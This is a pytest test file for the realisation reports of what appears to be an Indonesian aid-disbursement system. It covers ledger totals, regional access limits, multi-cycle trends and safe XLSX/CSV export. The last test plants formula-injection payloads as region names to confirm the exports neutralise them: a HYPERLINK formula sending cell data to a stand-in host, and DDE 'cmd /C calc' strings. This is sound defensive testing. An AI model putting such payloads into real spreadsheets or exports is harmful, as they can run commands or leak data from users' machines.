"""Realisation reports: figures per program × cycle × region that add up to the ledger, as
far as the reader may see, at every level, over cycles; files safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine as DbEngine

from conftest import user
from helpers import edit_directly
from lumbung.db import session_scope
from lumbung.delivery import ledger
from lumbung.errors import NotFound, PermissionDenied, ValidationFailed
from lumbung.reports.exports import to_csv, to_xlsx
from lumbung.reports.realisation import STATES, Realisation
from report_helpers import (
    CIDENG,
    LABEL,
    SEMBAKO,
    Paid,
    paid_in_every_state,
    renamed_regions,
    report,
)
from test_cycles import approve, cycle

pytestmark = pytest.mark.usefixtures("users")

GAMBIR = "31.71.01.1001"
BANDUNG_VILLAGE = "32.73.01.1001"


def expected(paid: Paid, code_of: int, within: str = "") -> dict[str, Counter[str]]:
    """Region code (its first `code_of` characters of the village code) → entitlements per
    state, from what the scenario did."""
    found: dict[str, Counter[str]] = {}
    for hid, state in paid.states.items():
        village = paid.villages[hid]
        if village == within or village.startswith(within):
            found.setdefault(village[:code_of], Counter())[state] += 1
    return found


def as_counts(row: Realisation) -> Counter[str]:
    counts: Counter[str] = Counter()
    for state in STATES:
        assert row.amount(state) % SEMBAKO == 0
        if row.amount(state):
            counts[state] = row.amount(state) // SEMBAKO
    return counts


def test_every_level_adds_up_to_the_ledgers_check(engine: DbEngine, tmp_path: Path) -> None:
    paid = paid_in_every_state(engine, tmp_path)
    with session_scope(engine) as session:
        check = ledger.check_cycle(session, actor=user(session, "auditor"), label=LABEL)
    assert check.ok, check.problems
    for level, width in (("province", 2), ("regency", 5), ("district", 8), ("village", 13)):
        got = report(engine, "auditor", level=level)
        assert (got.level, got.area, got.unit) == (level, None, "household")
        (one,) = got.cycles
        assert one.cycle == LABEL and one.state == "approved"
        total = one.total
        # the report's total is the ledger's, state by state, in rupiah and entitlements
        assert total.entitled_idr == check.entitled.amount_idr
        assert total.beneficiaries == check.entitled.entitlements == 10
        for state in STATES:
            assert total.amount(state) == check.states[state].amount_idr, state
        assert total.paid_beneficiaries == check.states["paid"].entitlements
        assert total.transactions == 7  # four in the first batch, three in the cancelled one
        assert total.adds_up and all(r.adds_up for r in one.rows)
        assert total.realisation_pct is not None and float(total.realisation_pct) == 10.0
        by_code = {r.code: as_counts(r) for r in one.rows}
        assert by_code == {k: +v for k, v in expected(paid, width).items()}, level
        assert [r.code for r in one.rows] == sorted(by_code)
        assert all(r.name for r in one.rows)  # every region named
        assert sum(r.beneficiaries for r in one.rows) == 10
    villages = {r.code: r for r in report(engine, "auditor", level="village").cycles[0].rows}
    assert villages[CIDENG].failed_idr == SEMBAKO and villages[CIDENG].transactions == 1
    assert villages[BANDUNG_VILLAGE].returned_idr == SEMBAKO
    assert villages[BANDUNG_VILLAGE].cancelled_idr == 2 * SEMBAKO


def test_a_reader_with_a_region_sees_only_it(engine: DbEngine, tmp_path: Path) -> None:
    paid = paid_in_every_state(engine, tmp_path)
    jakarta = report(engine, "verifier")  # a verifier of 31.71
    assert (jakarta.area, jakarta.level) == ("31.71", "district")
    assert jakarta.area_name
    (one,) = jakarta.cycles
    assert [r.code for r in one.rows] == ["31.71.01"]
    assert one.total.code == "31.71" and one.total.beneficiaries == 6
    assert as_counts(one.total) == +expected(paid, 5, "31.71.")["31.71"]
    for level in ("province", "regency", "village"):
        got = report(engine, "verifier", level=level)
        rows = got.cycles[0].rows
        assert all(r.code.startswith("31.71") for r in rows), level
        assert sum(r.beneficiaries for r in rows) == 6
        # never a row named after the province that holds only the regency's figures
        assert got.level == ("regency" if level == "province" else level)
    # a wider region reads as the reader's own; another region is refused, said as such
    assert report(engine, "verifier", region="31").area == "31.71"
    with pytest.raises(PermissionDenied, match=r"32\.73"):
        report(engine, "verifier", region="32.73")
    bandung = report(engine, "other_verifier", level="regency").cycles[0]
    assert [r.code for r in bandung.rows] == ["32.73"] and bandung.total.beneficiaries == 4
    village = report(engine, "operator").cycles[0]  # an operator of Gambir
    assert [r.code for r in village.rows] == [GAMBIR] and village.total.beneficiaries == 5
    narrowed = report(engine, "determiner", region=CIDENG).cycles[0]
    assert narrowed.total.failed_idr == SEMBAKO and narrowed.total.beneficiaries == 1
    # A family counts where it lives: the returned payment of Bandung moves with its family.
    returned = next(h for h, s in paid.states.items() if s == "returned")
    edit_directly(
        engine,
        "UPDATE household SET village_code = :v, district_code = '31.71.01', "
        "regency_code = '31.71', province_code = '31' WHERE id = :id",
        {"v": GAMBIR, "id": returned},
    )
    moved = report(engine, "verifier", level="regency").cycles[0].total
    assert (moved.beneficiaries, moved.returned_idr) == (7, SEMBAKO)


def test_over_cycles_and_a_program_of_persons(engine: DbEngine, tmp_path: Path) -> None:
    paid_in_every_state(engine, tmp_path)
    cycle(engine, tmp_path, "SBK-2", program="SEMBAKO")
    draft = report(engine, "auditor")  # the draft is left out of a program's trend
    assert [c.cycle for c in draft.cycles] == [LABEL]
    approve(engine, "SBK-2", data_dir=tmp_path)
    trend = report(engine, "auditor", level="province")
    assert [c.cycle for c in trend.cycles] == [LABEL, "SBK-2"]
    second = trend.cycles[1].total
    assert (second.pending_idr, second.paid_idr, second.transactions) == (10 * SEMBAKO, 0, 0)
    assert float(second.realisation_pct or 0) == 0.0
    only = report(engine, "auditor", cycles=["SBK-2"])
    assert [c.cycle for c in only.cycles] == ["SBK-2"]
    with pytest.raises(NotFound, match="SBK-9"):
        report(engine, "auditor", cycles=["SBK-2", "SBK-9"])
    with pytest.raises(NotFound, match="PKH"):
        report(engine, "auditor", program="PKH")
    with pytest.raises(ValidationFailed, match="Tingkat wilayah"):
        report(engine, "auditor", level="rt")
    # A program of persons counts persons: each member entitled once.
    cycle(engine, tmp_path, "PBI-1", program="PBI-JKN")
    persons = report(engine, "auditor", program="PBI-JKN", cycles=["PBI-1"])
    assert persons.unit == "person"
    total = persons.cycles[0].total
    assert total.beneficiaries > 10  # more persons than families
    with session_scope(engine) as session:
        check = ledger.check_cycle(session, actor=user(session, "auditor"), label="PBI-1")
    assert total.beneficiaries == check.entitled.entitlements
    assert total.entitled_idr == total.pending_idr == check.entitled.amount_idr


def test_files_never_let_a_spreadsheet_evaluate_a_planted_name(
    engine: DbEngine, tmp_path: Path
) -> None:
    paid_in_every_state(engine, tmp_path)
    planted = {
        GAMBIR: '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
        CIDENG: "+1+cmd|' /C calc'!A0",
        BANDUNG_VILLAGE: "@SUM(1+1)*cmd|' /C calc'!A0",
        "31.71.01": "-2+3",
        "32.73.01": "\tTAB",
    }
    with renamed_regions(engine, planted):
        got = report(engine, "auditor", level="village")
    assert {r.name for r in got.cycles[0].rows} >= {planted[GAMBIR], planted[CIDENG]}

    data = to_xlsx(got)
    with zipfile.ZipFile(io.BytesIO(data)) as unpacked:
        sheets = [n for n in unpacked.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in unpacked.read(name) and b"<f " not in unpacked.read(name)
    book = load_workbook(io.BytesIO(data))
    seen = set()
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.quotePrefix, cell.coordinate
                    seen.add(cell.value)
    assert {planted[GAMBIR], planted[CIDENG], planted[BANDUNG_VILLAGE]} <= seen
    sheet = book["Realisasi"]
    headings = [c.value for c in sheet[4]]
    assert headings[:4] == ["Siklus", "Tanggal acuan", "Kode wilayah", "Nama wilayah"]
    assert "Dibayar (Rp)" in headings and "Realisasi (%)" in headings
    first = [c.value for c in sheet[5]]
    assert first[2] == GAMBIR and isinstance(first[headings.index("Hak (Rp)")], int)

    lines = list(csv.reader(io.StringIO(to_csv(got))))
    assert lines[0][:4] == ["Siklus", "Tanggal acuan", "Kode wilayah", "Nama wilayah"]
    names = {line[3] for line in lines[1:]}
    assert "'" + planted[GAMBIR] in names and "'" + planted[CIDENG] in names
    assert "'" + planted[BANDUNG_VILLAGE] in names
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
    assert lines[-1][3].startswith("Jumlah") and lines[-1][-1] == "10.00"
